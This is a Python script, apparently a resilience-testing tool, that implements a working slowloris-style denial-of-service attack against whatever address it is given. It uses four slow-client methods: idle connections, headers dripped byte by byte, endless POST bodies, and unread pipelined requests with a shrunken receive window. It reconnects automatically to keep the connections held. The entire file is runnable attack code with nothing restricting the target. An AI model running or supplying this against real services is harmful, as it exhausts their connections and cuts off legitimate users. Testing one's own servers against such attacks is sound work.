"""Slow clients of four kinds, as an attacker would hold a service with them: `loris ADDRESS COUNT SECONDS`.

Keeps COUNT connections open until stdin closes, the first of them made over SECONDS; who is thrown out comes
again after a second. Prints the number of connections made so far, once a second.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
import socket
import sys
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

DRIP_SECONDS = 0.5
AGAIN_SECONDS = 1.0
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def silent(_: Streams) -> None:
    """Connects and says nothing."""


async def dripping_head(streams: Streams) -> None:
    """A header that never ends, a byte at a time."""
    streams[1].write(b"GET /data HTTP/1.1\r\nHost: t\r\nX: ")
    while not (streams[0].at_eof() or streams[1].is_closing()):
        streams[1].write(b"x")
        await asyncio.sleep(DRIP_SECONDS)


async def dripping_body(streams: Streams) -> None:
    """A body that never ends, a byte at a time."""
    streams[1].write(b"POST /data HTTP/1.1\r\nHost: t\r\nContent-Length: 1000000\r\n\r\n")
    while not (streams[0].at_eof() or streams[1].is_closing()):
        streams[1].write(b"x")
        await asyncio.sleep(DRIP_SECONDS)


async def not_reading(streams: Streams) -> None:
    """Asks five times on one connection and reads no answer."""
    streams[1].transport.pause_reading()  # type: ignore[attr-defined]  # a transport that reads
    streams[1].write(b"GET /healthz HTTP/1.1\r\nHost: t\r\n\r\n" * 5)
    await asyncio.sleep(4 * DRIP_SECONDS)


KINDS: tuple[Callable[[Streams], Awaitable[None]], ...] = (silent, dripping_head, dripping_body, not_reading)


async def attack(host: str, port: int, count: int, spread: float) -> None:
    """Hold `count` connections until stdin closes."""
    made = itertools.count(1)
    total = 0

    async def one(kind: Callable[[Streams], Awaitable[None]]) -> None:
        nonlocal total
        await asyncio.sleep(spread * random.random())
        while True:
            with contextlib.suppress(OSError):
                sock = socket.socket()
                sock.setsockopt(
                    socket.SOL_SOCKET, socket.SO_RCVBUF, 4096
                )  # before connecting: a small window
                sock.setblocking(False)
                await asyncio.get_running_loop().sock_connect(sock, (host, port))
                reader, writer = await asyncio.open_connection(sock=sock)
                total = next(made)
                try:
                    await kind((reader, writer))
                    writer.transport.resume_reading()  # type: ignore[attr-defined]  # to see the end
                    while await reader.read(65536):
                        pass
                finally:
                    writer.close()
            await asyncio.sleep(AGAIN_SECONDS)

    tasks = [asyncio.create_task(one(KINDS[number % len(KINDS)])) for number in range(count)]
    ended = asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    while not ended.done():
        print(total, flush=True)
        await asyncio.wait([ended], timeout=1.0)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    place = urlsplit(sys.argv[1])
    asyncio.run(attack(str(place.hostname), int(place.port or 80), int(sys.argv[2]), float(sys.argv[3])))
